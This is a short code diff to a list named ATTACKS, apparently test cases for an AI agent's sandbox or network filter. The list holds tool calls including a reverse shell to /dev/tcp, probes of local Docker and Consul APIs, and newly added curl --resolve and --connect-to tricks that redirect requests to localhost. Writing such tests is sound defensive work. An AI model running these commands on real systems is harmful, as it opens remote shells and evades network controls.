@@ -77,6 +77,8 @@ ATTACKS = [
     ("bash", {"command": "ssh admin@192.168.1.20"}),
     ("bash", {"command": "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1"}),
     ("bash", {"command": "curl localhost:2375/images/json"}),
+    ("bash", {"command": "curl --resolve status.example.org:80:127.0.0.1 http://status.example.org/admin"}),
+    ("bash", {"command": "curl --connect-to example.org:443:[::1]:8443 https://example.org/"}),
     ("run_python", {"code": "import requests\nrequests.get('http://localhost:8500/v1/agent/self')"}),
     ("fetch", {"urls": ["https://example.com", "http://127.0.0.1:8080/"]}),
 ]
